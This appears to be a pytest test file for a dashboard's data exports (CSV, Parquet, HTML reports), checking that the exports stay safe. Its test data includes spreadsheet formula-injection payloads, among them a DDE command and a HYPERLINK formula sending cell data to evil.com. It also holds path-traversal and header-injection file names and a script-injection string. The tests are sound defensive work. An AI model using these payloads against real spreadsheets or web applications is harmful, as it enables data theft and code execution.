"""What is taken along from the dashboard: scores and verdicts as tables, and reports."""

import base64
import csv
import io
import re
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from callbacks import Browser, page
from flask.testing import FlaskClient
from html_pages import Page
from pyod.models.knn import KNN
from reviewing import ABNORMAL, detector, good_runs, keep, new_runs
from small_dashboard import TOKEN, enter, settings_of
from werkzeug.test import TestResponse

from dashboard import create_app
from dashboard.answers import Refused
from dashboard.exporting.files import file_name
from dashboard.exporting.reports import MOST_CHOSEN, Kept, report_file
from dashboard.exporting.tables import as_csv, as_parquet, harmless, scores_table
from dashboard.seen import Seen
from dashboard.state import REPORT, SCORES_CSV, SCORES_PARQUET, State
from dashboard.views import Views
from tsad_plugin import Runs, report
from tsad_plugin.results import Scored
from tsad_plugin.workspace import Workspace

LINKS = [SCORES_CSV, SCORES_PARQUET, REPORT]
WORST = "B-3"
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "  =1+1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\x00=1", " \t\r\n @x", "\tabc", "\rabc",
    "＝1+1", "＋1", "－1", "＠x", "-5", "=", "-", '="a","b"',
    "=HYPERLINK(\"http://evil.com?x=\"&A1)", "a;=1+1", "a\n=1+1", "a\r\n=1+1", "a\t@x",
    'a";=1+1;"', "a; \n-x", "a\n\n=1", ";;=1",
]  # fmt: skip
PLAIN = [
    "",
    "valve stuck",
    "5–9.5 h",
    "T 80%, p 12%",
    "a-b",
    "a=b",
    "x@y.com",
    "1 - 2",
    "'=1",
    "ü €",
]


@pytest.fixture
def workspace(filled: Path, tmp_path: Path) -> Iterator[Workspace]:
    """A workspace of the test's own, with one verdict."""
    with Workspace(shutil.copytree(filled, tmp_path / "ws")) as copied:
        judge(copied, WORST, "fault", cause="valve", comment="seen <b>on site</b>")
        yield copied


@pytest.fixture
def client(workspace: Workspace) -> FlaskClient:
    return create_app(settings_of(workspace=workspace.path)).server.test_client()


def judge(workspace: Workspace, run: str, verdict: str, **more: str) -> None:
    data_set = workspace.data_sets()[0]
    workspace.review.judge(data_set, run, verdict, who="anna", **more)


def see(views: Views, **url: Any) -> Seen:
    return Seen.of(views, State(**url))


def read_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_parquet(content: bytes) -> pd.DataFrame:
    return pd.read_parquet(io.BytesIO(content))


# -- the table -------------------------------------------------------------------------------------


def test_a_row_a_run_says_what_is_known_of_it(views: Views) -> None:
    seen = see(views)
    table, view = scores_table(seen), seen.view
    assert len(table) == 20 and seen.threshold is not None
    for rank, row in enumerate(table.to_dict("records"), start=1):
        i = view.names.index(row["run"])
        assert rank == row["rank"] == sum(s >= view.scores[i] for s in view.scores)
        assert row["score"] == view.scores[i] and row["threshold"] == seen.threshold
        assert row["times_threshold"] == pytest.approx(view.scores[i] / seen.threshold)
        assert row["outlier"] == (view.scores[i] > seen.threshold)
        assert (row["channels"], row["stretch"]) == view.found[i]
        assert (row["start"], row["end"]) == tuple(view.table.loc[i, ["start", "end"]])
        assert (row["start_time"], row["end_time"]) == (0.5 * row["start"], 0.5 * row["end"])
        assert row["n_timesteps"] == len(new_runs().arrays[i])
        assert row["label"] == ("bad" if row["run"] in ABNORMAL else "ok")
        assert (row["model"], row["data_set"]) == ("PCAReconstruction", "new.csv")
        assert row["scoring"] == 2


def test_verdicts_are_those_that_hold_now(workspace: Workspace, views: Views) -> None:
    judge(workspace, "B-7", "unsure")
    judge(workspace, "B-7", "no fault", cause="trial")
    table = scores_table(see(views)).set_index("run")
    said = table.loc[[WORST, "B-7"], ["verdict", "cause", "comment", "who"]].to_numpy().tolist()
    comment = "seen <b>on site</b>"
    assert said == [["fault", "valve", comment, "anna"], ["no fault", "trial", "", "anna"]]
    assert table["at"].notna().sum() == table["verdict"].notna().sum() == 2
    assert table.loc["B-7", "at"] == views.standing(views.of(2)).verdicts["B-7"].at


def test_outliers_are_those_above_the_threshold_that_is_looked_at(views: Views) -> None:
    kept, tried = see(views), see(views, k=1.0)
    assert scores_table(kept)["outlier"].sum() == 3
    table = scores_table(tried)
    assert table["threshold"].unique().tolist() == [tried.good.threshold(1.0)]
    assert table["outlier"].sum() == (tried.view.scores > tried.good.threshold(1.0)).sum() > 3


def test_some_runs_keep_their_ranks(views: Views) -> None:
    seen = see(views)
    places = [seen.view.names.index(run) for run in ("B-0", "B-7", WORST)]
    every, some = scores_table(seen).set_index("run"), scores_table(seen, places)
    assert some["run"].tolist()[:2] == [WORST, "B-7"] and len(some) == 3
    pd.testing.assert_frame_equal(some.set_index("run"), every.loc[some["run"]])


def test_a_foreign_detector_has_scores_alone(workspace: Workspace, views: Views) -> None:
    scores = np.linspace(0, 1, 20)
    workspace.add_scores(workspace.data_sets()[0], scores, detector=KNN(contamination=0.1))
    table = scores_table(see(views))
    assert table["score"].tolist() == sorted(scores, reverse=True)
    assert table.loc[:, "channels":"end_time"].isna().all(axis=None)
    assert table["threshold"].isna().all() and table["times_threshold"].isna().all()
    assert read_parquet(as_parquet(table))["score"].tolist() == table["score"].tolist()
    assert [row["threshold"] for row in read_csv(as_csv(table))] == [""] * 20


@pytest.mark.parametrize(
    ("labels", "kind"),
    [
        ([1, 2], "Int64"), ([1, None], "Int64"), ([-1.5, 2.0], "Float64"),
        ([True, None], "boolean"), (["a", None], "string"), ([1, "a"], "string"),
        ([10**30, 1], "string"), ([None, None], "string"),
    ],
)  # fmt: skip
def test_labels_of_any_kind_have_one_type(views: Views, labels: list[Any], kind: str) -> None:
    seen = see(views)
    seen.view.__dict__["labels"] = labels * 10
    table = scores_table(seen)
    assert str(table["label"].dtype) in {kind, kind.lower()}
    back = read_parquet(as_parquet(table))["label"]
    assert back.isna().tolist() == table["label"].isna().tolist()
    assert [str(v) for v in back.dropna()] == [str(v) for v in table["label"].dropna()]


# -- files -----------------------------------------------------------------------------------------


def test_parquet_gives_back_types_and_text_as_they_were(workspace: Workspace, views: Views) -> None:
    judge(workspace, "B-7", "fault", cause="=1+1", comment="\t@x\n-1")
    table = scores_table(see(views))
    back = read_parquet(as_parquet(table))
    pd.testing.assert_frame_equal(back, table, check_dtype=False)
    kinds = {name: back[name].dtype.kind for name in ("rank", "score", "outlier", "at")}
    assert kinds == {"rank": "i", "score": "f", "outlier": "b", "at": "M"}
    row = back.set_index("run").loc["B-7"]
    assert (row["cause"], row["comment"]) == ("=1+1", "\t@x\n-1")


def test_csv_gives_back_what_is_known(views: Views) -> None:
    table = scores_table(see(views))
    rows = read_csv(as_csv(table))
    assert list(rows[0]) == table.columns.tolist()
    assert [float(row["score"]) for row in rows] == table["score"].tolist()
    assert [row["run"] for row in rows] == table["run"].tolist()
    assert [row["outlier"] for row in rows] == [str(flag) for flag in table["outlier"]]
    assert rows[0]["comment"] == "seen <b>on site</b>" and rows[1]["comment"] == ""
    at = views.standing(views.of(2)).verdicts[WORST].at
    assert rows[0]["at"] == f"{at:%Y-%m-%dT%H:%M:%SZ}"


def starts_formula(cell: str) -> bool:
    """As a spreadsheet that is not picky would see it."""
    bare = cell.lstrip("".join(map(chr, [*range(33), 0xA0, 0x200B, 0xFEFF])))
    return bare[:1] in set("=+-@＝＋－＠") or cell[:1] in set("\t\r\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(payload: str) -> None:
    safe = harmless(payload)
    assert re.sub("'", "", safe) == re.sub("'", "", payload)
    assert not starts_formula(safe)
    for row in safe.splitlines():  # where semicolons or tabs part the cells
        assert not any(starts_formula(cell) for cell in re.split("[;\t]", row) if cell)


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nasty_words_of_people_do_no_harm_in_a_spreadsheet(payload: str, views: Views) -> None:
    seen = see(views)
    table = scores_table(seen)
    text = [name for name in table.columns if pd.api.types.is_string_dtype(table[name])]
    assert {"run", "cause", "comment", "label", "data_set", "model", "who", "channels"} <= set(text)
    rows = read_csv(as_csv(table.assign(**dict.fromkeys(text, payload))))
    assert len(rows) == 20
    for row in rows:
        assert {row[name] for name in text} == {harmless(payload)}


def test_a_negative_number_is_no_text() -> None:
    table = pd.DataFrame({"score": [-1.5, 2.0], "run": ["-1.5", "a"]})
    assert as_csv(table).decode("utf-8-sig").split() == [
        '"score","run"', '-1.5,"\'-1.5"', '2.0,"a"',
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("new.csv", "new"), ("batches 2026.parquet", "batches-2026"), ("a.csv.gz", "a"),
        ("../../etc/passwd", "etc-passwd"), ('a"; filename="evil.exe', "a-filename-evil-exe"),
        ("a\r\nSet-Cookie: x=1", "a-Set-Cookie-x-1"), ("Öl & Gas", "l-Gas"), ("日本", ""),
        ("..", ""), ("x" * 500, "x" * 60), ("C:\\a\\b.csv", "C-a-b"), ("-.-", ""),
    ],
)  # fmt: skip
def test_files_have_names_of_our_own(name: str, expected: str) -> None:
    found = re.fullmatch(r"(.*?)-?scores-\d{4}-\d\d-\d\d\.csv", file_name([name], "scores", "csv"))
    assert found is not None and found[1] == expected


# -- the routes ------------------------------------------------------------------------------------


def test_scores_come_as_a_file(client: FlaskClient, views: Views) -> None:
    for link, kind in [
        (SCORES_CSV, "text/csv"),
        (SCORES_PARQUET, "application/vnd.apache.parquet"),
    ]:
        answer = client.get(f"{link}?scoring=2")
        ending = link.rpartition(".")[2]
        assert answer.status_code == 200 and answer.mimetype == kind
        named = answer.headers["Content-Disposition"]
        assert re.fullmatch(rf'attachment; filename="new-scores-[\d-]{{10}}\.{ending}"', named)
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    expected = scores_table(see(views))
    assert client.get(f"{SCORES_CSV}?scoring=2").data == as_csv(expected)
    assert client.get(SCORES_PARQUET).data == as_parquet(expected)
    assert len(read_csv(client.get(f"{SCORES_CSV}?scoring=1").data)) == 40


def test_a_tried_threshold_goes_with_the_link(client: FlaskClient, views: Views) -> None:
    rows = read_csv(client.get(f"{SCORES_CSV}?scoring=2&k=1").data)
    assert float(rows[0]["threshold"]) == see(views, k=1.0).threshold


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize(
    ("query", "status", "said"),
    [
        ("scoring=99", 404, "99"),
        ("scoring=x", 404, "There is no scoring"),
        ("k=x", 404, "K is a number of standard deviations"),
    ],
)
def test_what_there_is_not_is_not_found(
    client: FlaskClient, link: str, query: str, status: int, said: str
) -> None:
    answer = client.get(f"{link}?{query}")
    assert answer.status_code == status and said in answer.text
    assert "Content-Disposition" not in answer.headers


def test_an_unknown_run_has_no_report(client: FlaskClient) -> None:
    answer = client.get(f"{REPORT}?scoring=2&run=<script>")
    assert answer.status_code == 404 and "There is no run" in answer.text
    assert "<script>" not in answer.text


def test_a_damaged_file_is_told_without_its_place(
    client: FlaskClient, workspace: Workspace
) -> None:
    shutil.rmtree(workspace.path / "scorings")
    for link in LINKS:
        answer = client.get(f"{link}?scoring=2")
        assert answer.status_code == 409 and "is missing" in answer.text
        assert str(workspace.path) not in answer.text


def test_what_went_wrong_inside_is_a_number(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: Any) -> None:
        raise RuntimeError("the password is swordfish")

    monkeypatch.setattr("dashboard.exporting.tables.scores_table", fail)
    answer = client.get(SCORES_CSV)
    assert answer.status_code == 500 and re.search("error [0-9a-f]{8}", answer.text)
    assert "swordfish" not in answer.text


@pytest.mark.parametrize("link", LINKS)
def test_files_are_guarded_as_pages_are(workspace: Workspace, link: str) -> None:
    settings = settings_of(workspace=workspace.path, token=TOKEN)
    locked = create_app(settings).server.test_client()
    assert locked.get(link).status_code == 401
    assert locked.get(link, headers={"Host": "evil.com"}).status_code == 421
    enter(locked)
    assert locked.get(link).status_code == 200
    assert locked.get(link, headers={"Host": "evil.com"}).status_code == 421
    for origin in ({"Origin": "http://evil.com"}, {"Sec-Fetch-Site": "cross-site"}):
        assert locked.post(link, headers=origin).status_code == 403
    assert locked.post(link).status_code == 405
    assert locked.get(link).headers["Cross-Origin-Resource-Policy"] == "same-origin"


# -- reports ---------------------------------------------------------------------------------------


def page_of(answer: TestResponse | bytes, path: Path) -> Page:
    path.write_bytes(answer if isinstance(answer, bytes) else answer.data)
    return Page(path)


@pytest.fixture(scope="module")
def reported(tmp_path_factory: pytest.TempPathFactory) -> Page:
    """The report that the library makes of the same runs."""
    path = tmp_path_factory.mktemp("reported") / "report.html"
    report(detector().fit(good_runs()), new_runs(labels=True), path)
    return Page(path)


def without_verdict(row: str) -> str:
    return re.sub(r" (fault|verdict|–)$", "", row)


def test_the_report_has_the_numbers_of_the_library(
    client: FlaskClient, reported: Page, tmp_path: Path
) -> None:
    page = page_of(client.get(f"{REPORT}?scoring=2"), tmp_path / "report.html")
    assert page.texts_in("h1") == reported.texts_in("h1") == ["3 of 20 runs are outliers"]
    assert [without_verdict(row) for row in page.ranking] == reported.ranking
    assert page.charts.keys() == reported.charts.keys()
    for name, chart in page.charts.items():
        same_chart(chart, reported.charts[name])


def same_chart(found: Any, expected: Any) -> None:
    """Traces are equal, but for what single precision costs."""
    assert len(found["data"]) == len(expected["data"])
    for trace, other in zip(found["data"], expected["data"], strict=True):
        assert trace.get("name") == other.get("name")
        for axis in ("x", "y", "z"):
            if other.get(axis) is not None:
                np.testing.assert_allclose(
                    numbers(trace[axis]), numbers(other[axis]), rtol=1e-3, atol=1e-4
                )


def numbers(values: Any) -> Any:
    """An array as plotly writes it."""
    if isinstance(values, dict):
        array = np.frombuffer(base64.b64decode(values["bdata"]), values["dtype"])
        return array.astype(np.float64)
    return pd.to_numeric(pd.Series(np.ravel(np.array(values, dtype=object))), errors="coerce")


def test_the_report_of_a_run_says_what_was_decided(client: FlaskClient, tmp_path: Path) -> None:
    answer = client.get(f"{REPORT}?scoring=2&run={WORST}")
    assert answer.status_code == 200
    named = answer.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="new-B-3-report-[\d-]{10}\.html"', named)
    page = page_of(answer, tmp_path / "report.html")
    assert page.texts_in("h1") == [f"Run {WORST} is an outlier"]
    assert "Chosen runs, the worst first" in page.texts_in("h2")
    [header, row] = page.ranking
    assert header.endswith("label verdict") and row.startswith(f"1 {WORST} ")
    assert row.endswith("bad fault")
    assert "Verdict: fault · valve “seen <b>on site</b>” (anna, " in page.text
    assert len(page.all("article")) == 1 and "<b>on site</b>" not in page.source
    assert "new.csv" in page.texts_in("strong")


def test_a_run_that_is_no_outlier_has_a_report_too(client: FlaskClient, tmp_path: Path) -> None:
    page = page_of(client.get(f"{REPORT}?scoring=2&run=B-5"), tmp_path / "report.html")
    assert page.texts_in("h1") == ["Run B-5 is no outlier"]
    assert page.ranking[1].endswith("ok –") and "no outlier" in page.texts_in("span")
    assert "No run is an outlier" not in page.text


def test_the_report_says_where_the_threshold_comes_from(
    workspace: Workspace, client: FlaskClient, tmp_path: Path
) -> None:
    def threshold(query: str) -> str:
        page = page_of(client.get(f"{REPORT}?{query}"), tmp_path / "report.html")
        return next(row for row in page.rows_in("model") if row.startswith("Threshold"))

    assert "of the scores of 40 good runs held out" in threshold("scoring=2")
    model = workspace.models()[0]
    workspace.review.set_threshold(model, 12.0, origin="set by hand", who="bert")
    assert threshold("scoring=2").startswith("Threshold 12.00: set by hand (bert, ")
    tried = threshold("scoring=2&k=2.5")
    assert re.search(r"mean \+2\.50 σ of training runs \(40 held-out scores\), not kept", tried)


def test_the_report_follows_the_threshold(
    workspace: Workspace, client: FlaskClient, tmp_path: Path
) -> None:
    workspace.review.set_threshold(workspace.models()[0], 12.0, origin="set by hand", who="bert")
    page = page_of(client.get(f"{REPORT}?scoring=2"), tmp_path / "report.html")
    assert page.texts_in("h1") == ["2 of 20 runs are outliers"]
    assert "(threshold 12)" in page.text and len(page.ranking) == 3


def test_the_report_is_one_file_that_says_nothing_of_this_machine(
    client: FlaskClient, workspace: Workspace
) -> None:
    text = client.get(f"{REPORT}?scoring=2&run={WORST}").text
    assert re.search(r'http-equiv="Content-Security-Policy" content="default-src \'none\'; ', text)
    assert str(workspace.path) not in text and str(Path.home()) not in text
    host = socket.gethostname()
    assert not re.search(rf"\b{re.escape(host)}\b", text) or len(host) < 5
    tags = re.sub(r"<script.*?</script>", "", text, flags=re.DOTALL)
    assert not re.search(r'(src|href)="(?!#|data:)', tags)


def test_channels_in_another_order_are_told_apart(tmp_path: Path) -> None:
    train, new = good_runs(), new_runs(labels=True)
    with Workspace(tmp_path / "ws", create=True) as workspace:
        keep(workspace, train, new.select(("p", "T")))
        kept = Kept.of(see(Views(workspace)))
        scored = Scored.of(detector().fit(train), new)
        places = scored.outliers
        assert kept.ids == [str(run) for run in scored.ids] and kept.outliers == places
        for found, expected in zip(kept.explain(places), scored.explain(places), strict=True):
            assert list(found.channels) == list(expected.channels)
            assert found.channels == pytest.approx(expected.channels, abs=1e-5)
            assert (found.start, found.end, found.text) == (
                expected.start,
                expected.end,
                expected.text,
            )
        for ours, theirs in zip(kept.timesteps(places), scored.timesteps(places), strict=True):
            for a, b in zip(ours, theirs, strict=True):
                np.testing.assert_allclose(a, b, rtol=1e-4, atol=1e-5)
        assert kept.pick(places).channels == ("T", "p")


def test_nasty_names_are_harmless_in_a_report(tmp_path: Path) -> None:
    evil = "</script><script>alert(1)</script>\r\n"
    new = new_runs()
    named = Runs(
        new.arrays, ids=[f"{evil}{run}" for run in new.ids], channels=["T", "p"], times=new.times
    )
    with Workspace(tmp_path / "ws", create=True) as workspace:
        keep(workspace, good_runs(), named)
        seen = see(Views(workspace))
        seen.judge({"run": seen.view.names[3], "verdict": "fault", "comment": evil}, "anna")
        file = report_file(see(Views(workspace)), [3])
    assert b"<script>alert(1)" not in file.content
    assert re.fullmatch(r"new-script-script-alert-1-script-B-3-report-[\d-]{10}\.html", file.name)


def test_a_foreign_detector_has_no_report(workspace: Workspace, client: FlaskClient) -> None:
    workspace.add_scores(workspace.data_sets()[0], np.arange(20.0), detector=KNN())
    answer = client.get(REPORT)
    assert answer.status_code == 404 and "KNN has scores alone: " in answer.text


# -- the selection ---------------------------------------------------------------------------------


def take(browser: Browser, button: str, runs: list[str], data_set: int = 2) -> Any:
    stored = {"shell_selection__data": {"data_set": data_set, "runs": runs}} if runs else {}
    return browser.call(
        "export-file.data",
        f"{button}.n_clicks",
        **{f"{button.replace('-', '_')}__n_clicks": 1},
        **stored,
        page_url__data="?scoring=2",
    )


def content_of(answer: Any) -> tuple[str, bytes]:
    [props] = answer["response"].values()
    return props["data"]["filename"], base64.b64decode(props["data"]["content"])


def note_of(answer: Any) -> str:
    return str(answer["sideUpdate"]["notes"]["sendNotifications"][0]["message"])


def test_selected_runs_are_taken_along(browser: Browser, tmp_path: Path) -> None:
    name, content = content_of(take(browser, "export-selected-scores", ["B-0", WORST]))
    assert name.startswith("new-selected-scores-") and name.endswith(".csv")
    first, second = read_csv(content)
    assert (first["rank"], first["run"], second["run"]) == ("1", WORST, "B-0")
    name, content = content_of(take(browser, "export-selected-report", ["B-0", WORST]))
    page = page_of(content, tmp_path / name)
    assert page.texts_in("h1") == ["1 of 2 chosen runs is an outlier"]
    assert len(page.all("article")) == 2 and len(page.ranking) == 3


@pytest.mark.parametrize("button", ["export-selected-scores", "export-selected-report"])
def test_without_a_selection_there_is_nothing_to_take(browser: Browser, button: str) -> None:
    for answer in (take(browser, button, []), take(browser, button, [WORST], data_set=1)):
        assert "no run is selected" in note_of(answer)


def test_a_report_of_too_many_runs_is_refused(views: Views) -> None:
    with pytest.raises(Refused, match=f"{MOST_CHOSEN} runs at most, 51 are selected: select fewer"):
        report_file(see(views, scoring=1), list(range(51)))


def test_what_a_foreign_detector_cannot_give_is_not_offered(
    browser: Browser, workspace: Workspace
) -> None:
    workspace.add_scores(workspace.data_sets()[0], np.arange(20.0), detector=KNN())
    assert f'"{REPORT}' not in page(browser, "/run", "?scoring=3&run=B-3")
    home = page(browser, "/", "?scoring=3")
    assert f'"{REPORT}' not in home and '"id": "export-report", "className": "off"' in home


def test_pages_offer_what_can_be_taken(browser: Browser) -> None:
    home = page(browser, "/", "?scoring=2&run=B-3&k=2")
    for link in LINKS:
        assert f'"{link}?scoring=2&k=2"' in home
    assert f"{MOST_CHOSEN} runs at most" in home
    assert f'"{REPORT}?scoring=2&run=B-3"' in page(browser, "/run", "?scoring=2&run=B-3")
